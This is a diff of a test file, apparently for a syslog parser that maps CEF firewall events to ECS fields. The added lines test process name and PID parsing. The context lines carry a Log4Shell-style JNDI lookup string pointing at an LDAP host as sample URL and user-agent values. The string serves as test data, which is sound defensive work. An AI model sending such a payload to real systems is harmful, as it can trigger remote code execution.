@@ -95,6 +95,9 @@ describe.skipIf(!present)('CEF inside syslog', () => {
       'url.original': '${jndi:ldap://203.0.113.7:1389/o=reference}', 'user_agent.original': '${jndi:ldap://203.0.113.7:1389/o=reference}',
       'host.name': 'fw-edge01', 'log.syslog.appname': 'cef', 'log.syslog.facility.name': 'local4',
     });
+    expect(e.ecs['process.name']).toBeUndefined();
+    const withProcess = parseSyslogEvent('<134>Nov 25 19:57:38 fw01 fwd[7]: CEF:0|V|P|1|s|n|5|sproc=sshd spid=42', { clock });
+    expect(withProcess.ok && [withProcess.value.ecs['process.name'], withProcess.value.ecs['process.pid'], withProcess.value.ecs['log.syslog.appname']]).toEqual(['sshd', 42, 'fwd']);
     expect((e.raw['syslog'] as { structuredData: unknown }).structuredData).toEqual({ timeQuality: { tzKnown: '1', isSynced: '0' } });
   });
 
